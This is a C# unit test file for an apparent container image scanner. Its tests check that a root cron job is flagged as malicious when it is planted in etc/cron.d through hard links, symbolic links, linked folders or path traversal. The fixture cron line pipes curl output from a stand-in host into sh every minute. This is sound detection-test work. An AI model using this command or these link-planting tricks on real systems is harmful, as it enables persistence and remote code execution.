using Wellguard.Artifacts;
using Wellguard.Tests.Artifacts;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Layers;

public sealed class LinkedFilesTests
{
    private const string Job = "* * * * * root curl -s https://cdn.example.invalid/x | sh\n";
    private static readonly ImageConfig Cron = new() { Os = "linux", Architecture = "amd64", Entrypoint = ["cron", "-f"] };

    private static readonly Dictionary<string, byte[][]> Linked = new()
    {
        ["a hard link"] = [new RawTar().File("usr/share/doc/x", Job).Link("etc/cron.d/x", "usr/share/doc/x", hard: true).ToArray()],
        ["a chain of hard links"] = [new RawTar().File("opt/x", Job).Link("opt/y", "opt/x", hard: true).Link("etc/cron.d/x", "opt/y", hard: true).ToArray()],
        ["a symbolic link"] = [new RawTar().File("usr/share/doc/x", Job).Link("etc/cron.d/x", "/usr/share/doc/x").ToArray()],
        ["a linked folder"] = [new RawTar().File("usr/share/doc/x", Job).Link("etc/cron.d", "/usr/share/doc").ToArray()],
        ["written through a linked folder"] = [new RawTar().Link("usr/share/doc", "../../etc/cron.d").File("usr/share/doc/x", Job).ToArray()],
        ["written through a folder that a lower layer linked"] = [new RawTar().Directory("etc/cron.d").Link("usr/share/doc", "/etc/cron.d").ToArray(), new RawTar().File("usr/share/doc/x", Job).ToArray()],
        ["a link to a lower layer's file"] = [new RawTar().File("usr/share/doc/x", Job).ToArray(), new RawTar().Link("etc/cron.d/x", "../../usr/share/doc/x").ToArray()],
        ["a hard link whose first name is deleted"] = [new RawTar().File("opt/x", Job).ToArray(), new RawTar().Link("etc/cron.d/x", "opt/x", hard: true).ToArray(), new RawTar().File("opt/.wh.x", "").ToArray()],
    };

    public static TheoryData<string> Names => [.. Linked.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public async Task A_job_that_links_put_where_cron_looks_is_a_job(string name)
    {
        var report = await Pipeline.ScanAsync(RawTar.Image(Cron, Linked[name]), new ScanOptions(Policy.Default, new DateOnly(2026, 11, 24)), CancellationToken.None);
        Assert.Equal(Level.Malicious, report.Verdict.Level);
        Assert.Contains(report.Signals, signal => signal.Where.Path == "etc/cron.d/x");
        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
    }

    [Fact]
    public async Task A_link_to_a_place_outside_is_followed_inside_the_root()
    {
        var tar = new RawTar().Link("usr/share/doc", "../../../../../../etc/cron.d").File("usr/share/doc/x", Job).ToArray();
        var report = await Pipeline.ScanAsync(RawTar.Image(Cron, tar), new ScanOptions(Policy.Default, new DateOnly(2026, 11, 24)), CancellationToken.None);
        Assert.Equal(Level.Malicious, report.Verdict.Level);
    }

    [Fact]
    public async Task Links_to_what_does_not_run_are_not_read_again()
    {
        var opened = 0;
        var image = RawTar.Image(Cron, new RawTar().File("usr/bin/python3.11", "\u007fELF").Link("usr/bin/python3", "python3.11").File("usr/share/doc/x", Job).Link("srv/x", "/usr/share/doc/x").ToArray());
        var layer = image.Layers[0];
        image = image with { Layers = [layer with { Open = cancel => { opened++; return layer.Open(cancel); } }] };
        var report = await Pipeline.ScanAsync(image, new ScanOptions(Policy.Default, new DateOnly(2026, 11, 24)), CancellationToken.None);
        Assert.Equal(Level.Clean, report.Verdict.Level);
        Assert.Equal(1, opened);
    }
}
